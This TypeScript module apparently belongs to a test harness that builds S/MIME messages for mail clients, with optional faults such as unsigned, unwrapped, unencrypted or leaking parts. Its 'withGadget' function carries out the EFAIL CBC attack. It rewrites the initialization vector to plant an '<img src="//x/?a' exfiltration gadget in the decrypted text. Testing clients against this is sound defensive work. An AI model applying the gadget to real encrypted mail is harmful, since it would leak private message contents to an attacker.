/**
 * A whole message of our own making, from what it says to what travels.
 *
 * @module
 */
import { type EncryptOptions, encryptData } from '../../../cms/encrypt.ts';
import { readEnveloped } from '../../../cms/enveloped.ts';
import { encodeBase64 } from '../../../mail/base64.ts';
import { encodeQuotedPrintable } from '../../../mail/quoted-printable.ts';
import { envelopedEntity, envelopedMessage, wrapMessage } from '../../../mail/wrap.ts';
import { PlanError } from '../../cases.ts';
import type { Delivery } from '../../deliver-schema.ts';
import type { StepContext } from '../step.ts';
import { type ContentHeader, contentMessage } from './content.ts';
import { withFields } from './fields.ts';
import { noticeMessage } from './notice.ts';
import { leakingParts } from './odd-content.ts';
import { signed } from './sign.ts';

export interface Made {
  /** What travels. */
  readonly bytes: Uint8Array;
  /** The message that is wrapped. */
  readonly inner: Uint8Array;
}

/** @param given the message to wrap, when it is one that was sent before */
export function makeMessage(
  delivery: Delivery,
  messageId: string,
  context: StepContext,
  given?: Uint8Array,
): Made {
  const faults = new Set(delivery.faults);
  const forms = new Set(delivery.forms);
  const header = headerOf(delivery, messageId, context);
  const inner = given ?? withFields(innerOf(delivery, header, context), delivery.header);
  const content = faults.has('not-wrapped') ? partOf(inner) : wrapped(inner, delivery);
  const clear = faults.has('unsigned') ? content : signed(content, delivery, context);
  if (faults.has('not-encrypted')) return { bytes: inClear(inner, clear, delivery, header), inner };
  const sealed = sealFor(clear, delivery, context);
  const enveloped = faults.has('gadget') ? withGadget(sealed, clear) : sealed;
  const outer = faults.has('leaking-parts')
    ? leakingParts({ ...header, subject: '' }, envelopedEntity(enveloped))
    : envelopedMessage(header, enveloped);
  const typed = forms.has('x-types') || forms.has('bare-types') ? otherTypes(outer, forms) : outer;
  return { bytes: withFields(typed, delivery.outer), inner };
}

function headerOf(
  { from, to, requests }: Delivery,
  messageId: string,
  { host, random, outside }: StepContext,
): ContentHeader {
  return {
    from,
    to,
    date: host.now(),
    messageId,
    boundary: `part-${random.uuid()}`,
    pages: outside.pages,
    extraHeaders: requests
      ? [
          ['Disposition-Notification-To', from],
          ['Disposition-Notification-Options', requests],
        ]
      : [],
  };
}

function innerOf(delivery: Delivery, header: ContentHeader, context: StepContext): Uint8Array {
  const { content, notice } = delivery;
  if (notice) return noticeMessage(notice, toldId(notice.about, context.told), header);
  if (content !== 'inner-signed') return contentMessage(content, header);
  // What the user signed is the user's: an S/MIME message like any other attachment.
  const own = contentMessage('trailing-blanks', header);
  const entity = signed(partOf(own), { ...delivery, forms: [], faults: [] }, context);
  const text = Buffer.from(own).toString('latin1');
  const fields = text
    .slice(0, text.indexOf('\r\n\r\n'))
    .split(/\r\n(?![ \t])/)
    .filter((field) => !/^content-/i.test(field));
  return Buffer.concat([Buffer.from(`${fields.join('\r\n')}\r\n`, 'latin1'), entity]);
}

/** The Message-ID of an earlier step's message; one in angle brackets is meant itself. */
function toldId(about: string, told: StepContext['told']): string {
  const messageId = about.startsWith('<') ? about : told.get(about)?.messageId;
  if (messageId === undefined) throw new PlanError(`no message "${about}" was sent before`);
  return messageId;
}

function wrapped(inner: Uint8Array, { forms, content }: Delivery): Uint8Array {
  const encoded = (encoding: string, body: Uint8Array): Uint8Array =>
    Buffer.concat([
      Buffer.from(`Content-Type: message/rfc822\r\nContent-Transfer-Encoding: ${encoding}\r\n\r\n`, 'latin1'),
      body,
    ]);
  if (forms.includes('base64-wrap')) return encoded('base64', encodeBase64(inner));
  if (forms.includes('qp-wrap')) return encoded('quoted-printable', encodeQuotedPrintable(inner));
  // Signed as it is, by somebody who knows no canonical form.
  return content === 'line-feeds' ? encoded('7bit', inner) : wrapMessage(inner);
}

/** In clear: the signed entity behind the fields of the message, or the message itself when nobody signed it. */
function inClear(
  inner: Uint8Array,
  clear: Uint8Array,
  { faults }: Delivery,
  { from, to, messageId }: ContentHeader,
): Uint8Array {
  if (faults.includes('unsigned')) return inner;
  const fields = [`From: ${from}`, `To: ${to.join(', ')}`, `Message-ID: ${messageId}`, 'MIME-Version: 1.0'];
  return Buffer.concat([Buffer.from(`${fields.join('\r\n')}\r\n`, 'latin1'), clear]);
}

function sealFor(
  clear: Uint8Array,
  { encryptTo, to, cipher, keyTransport, forms }: Delivery,
  { outside, case: caseId }: StepContext,
): Uint8Array {
  const recipients = encryptTo
    ? encryptTo.map((role) => outside.signer(caseId, role).certificate)
    : to.map((address) => outside.recipient(address));
  const options: EncryptOptions = {
    cipher,
    keyTransport,
    ...(forms.includes('ber-envelope') ? { ber: true } : {}),
    ...(forms.includes('constructed-strings') ? { ber: 'constructed-strings' } : {}),
    ...(forms.includes('ski-recipient') ? { by: 'ski' } : {}),
  };
  return encryptData(clear, recipients, options);
}

/** Chosen by the attacker: as long as one block. */
const GADGET = Buffer.from('<img src="//x/?a', 'latin1');

/**
 * The first block of the clear text is known, so whoever changes the initialization vector chooses what stands there
 * (the CBC gadget of EFAIL).
 */
function withGadget(enveloped: Uint8Array, clear: Uint8Array): Uint8Array {
  const { iv } = readEnveloped(enveloped).cipher;
  const out = Buffer.from(enveloped);
  const at = out.indexOf(iv);
  for (let index = 0; index < iv.length; index++) {
    out[at + index] = iv[index]! ^ clear[index]! ^ GADGET[index]!;
  }
  return out;
}

/** The types of old: `x-pkcs7-mime`; or without any of their parameters (REQ-AS-11). */
function otherTypes(outer: Uint8Array, forms: ReadonlySet<string>): Uint8Array {
  const type = forms.has('x-types') ? 'application/x-pkcs7-mime' : 'application/pkcs7-mime';
  const parameters = forms.has('bare-types') ? '' : '; name=smime.p7m';
  const replaced = withFields(outer, { 'Content-Type': `${type}${parameters}` });
  return forms.has('bare-types') ? withFields(replaced, { 'Content-Disposition': [] }) : replaced;
}

/** The content fields and the body of a message, without its own header. */
function partOf(message: Uint8Array): Uint8Array {
  const text = Buffer.from(message).toString('latin1');
  const end = text.indexOf('\r\n\r\n');
  const fields = text
    .slice(0, end)
    .split(/\r\n(?![ \t])/)
    .filter((field) => /^content-/i.test(field));
  return Buffer.from(`${fields.join('\r\n')}${text.slice(end)}`, 'latin1');
}
